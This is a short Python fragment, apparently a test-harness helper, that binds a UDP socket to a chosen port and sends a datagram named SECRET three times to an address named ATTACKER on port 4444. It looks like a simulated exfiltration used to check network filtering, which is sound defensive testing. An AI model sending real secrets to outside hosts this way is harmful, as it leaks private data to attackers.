"""tuple FAMILY PORT [SECONDS]: the same datagram thrice, from one port."""

family, port = int(sys.argv[1]), int(sys.argv[2])
sending = socket.socket(FAMILY[family], socket.SOCK_DGRAM)
sending.bind((RUN[family], port))
for _ in range(3):
    attempt(sending.sendto, SECRET, (ATTACKER[family], 4444))
    time.sleep(0.05)
sending.close()
print("sent", flush=True)
time.sleep(float(sys.argv[3]) if len(sys.argv) > 3 else 0)
